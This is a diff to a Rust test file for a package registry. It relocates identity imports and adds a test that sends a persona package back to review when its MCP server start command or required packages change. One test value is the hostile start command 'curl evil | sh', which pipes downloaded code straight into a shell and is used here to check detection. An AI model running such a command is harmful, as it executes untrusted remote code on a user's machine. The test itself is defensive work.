@@ -3,8 +3,8 @@
 use tokio_util::sync::CancellationToken;
 use vitrine_base::{PackageId, Version};
 use vitrine_package::listing::Texts;
+use vitrine_registry::accounts::identity::{Role, Scope, Via};
 use vitrine_registry::checks::{self, Verdict};
-use vitrine_registry::http::identity::{Role, Scope, Via};
 use vitrine_registry::jobs::JobContext;
 use vitrine_registry::moderation::Verdict as Decides;
 use vitrine_registry::store::PackageState;
@@ -97,6 +97,40 @@ async fn what_gains_servers_or_changes_what_it_is_waits() {
     house.write(|unit, now| unit.add_owner(&lumen, other.account, now)).unwrap();
     let id = house.submit_spec(&other, &spec.version("1.4.0")).await;
     assert_eq!(house.state(&id), State::InReview);
+}
+
+/// A persona with that as its server `files`, and with those packages.
+fn with_server(start: &str, packages: &str) -> PersonaSpec {
+    let servers = format!(
+        r#"{{"servers":[{{"name":"files","source":{{"type":"external","git":"https://example.org/f.git"}},
+        "install":{{"start_cmd":"{start}","port":1}}}}]}}"#
+    );
+    PersonaSpec::new("lumen_reader")
+        .member("dependencies/mcp_servers.json", servers)
+        .member("dependencies/packages.json", format!(r#"{{"packages":[{packages}]}}"#))
+}
+
+#[tokio::test]
+async fn another_command_or_package_it_needs_waits() {
+    let house = House::new();
+    let (start, optional) = ("python server.py", r#"{"id":"lamp_set","required":false}"#);
+    house.published(&house.maker, &with_server(start, optional)).await;
+    let again = with_server(start, optional).version("1.1.0").picture(9);
+    let id = house.submit_spec(&house.maker, &again).await;
+    assert_eq!(house.state(&id), State::Approved, "{:?}", house.more(&id).reasons);
+    let many: Vec<String> = (0..301).map(|n| format!(r#"{{"id":"lamp-{n}","required":false}}"#)).collect();
+    let cases = [
+        ("1.2.0", with_server("curl evil | sh", optional), "“files” is new or changed"),
+        ("1.3.0", with_server(start, r#"{"id":"lamp_set"}"#), "requires the package “lamp_set”"),
+        ("1.4.0", with_server(start, r#"{"id":"other"}"#), "requires the package “other”"),
+        ("1.5.0", with_server(start, &many.join(",")), "more things than are compared"),
+    ];
+    for (version, spec, why) in cases {
+        let id = house.submit_spec(&house.maker, &spec.version(version)).await;
+        assert_eq!(house.state(&id), State::InReview, "{why}");
+        let more = house.more(&id);
+        assert!(more.reasons.iter().any(|reason| reason.contains(why)), "{why}: {more:?}");
+    }
 }
 
 #[tokio::test]
@@ -329,13 +363,14 @@ async fn only_those_it_concerns_see_it() {
         |member: &_| house.registry().db.read_now(|unit| submissions::visible(unit, member, &id).map(|_| ()));
     assert!(see(&house.maker).is_ok() && see(&house.curator).is_ok());
     assert_eq!(code(&see(&other).unwrap_err()), "registry.not_found");
-    let token = |role_of: &vitrine_registry::http::identity::Member, scopes: Vec<Scope>, globs: &[&str]| {
-        let packages = globs.iter().map(|glob| (*glob).to_owned()).collect();
-        vitrine_registry::http::identity::Member {
-            via: Via::Token { id: 1, scopes, packages },
-            ..role_of.clone()
-        }
-    };
+    let token =
+        |role_of: &vitrine_registry::accounts::identity::Member, scopes: Vec<Scope>, globs: &[&str]| {
+            let packages = globs.iter().map(|glob| (*glob).to_owned()).collect();
+            vitrine_registry::accounts::identity::Member {
+                via: Via::Token { id: 1, scopes, packages },
+                ..role_of.clone()
+            }
+        };
     assert!(see(&token(&house.maker, vec![Scope::Publish], &["lumen*"])).is_ok());
     assert!(see(&token(&house.maker, vec![Scope::Publish], &["nora*"])).is_err());
     assert!(
